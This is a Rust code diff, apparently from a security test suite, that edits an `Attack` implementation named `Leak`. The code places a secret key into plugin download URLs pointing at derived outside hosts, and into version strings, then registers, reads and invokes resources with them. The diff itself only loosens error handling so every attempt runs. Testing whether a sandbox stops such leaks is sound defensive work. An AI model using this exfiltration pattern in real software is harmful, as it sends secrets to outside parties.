@@ -29,9 +29,10 @@ impl Attack for Leak {
         for name in names(&key) {
             let options =
                 ResourceOptions { plugin_download_url: Some(format!("https://{name}/{key}")), ..no_options() };
-            let _ = engine::register(&registration("other:index:Thing", "fetched", options.clone()))?.wait();
-            let _ = engine::read(&registration("other:index:Thing", "fetched", options.clone()), "1")?.wait();
-            let _ = engine::invoke("other:index:tell", &object(&[], Vec::new()), &options)?.wait();
+            let other = || registration("other:index:Thing", "fetched", options.clone());
+            let _ = engine::register(&other()).and_then(|fetched| fetched.wait());
+            let _ = engine::read(&other(), "1").and_then(|fetched| fetched.wait());
+            let _ = engine::invoke("other:index:tell", &object(&[], Vec::new()), &options).and_then(|told| told.wait());
             let options = ResourceOptions { version: Some(format!("1.0.0-{key}")), ..no_options() };
             let _ = engine::register(&registration("other:index:Thing", "fetched", options))?.wait();
         }
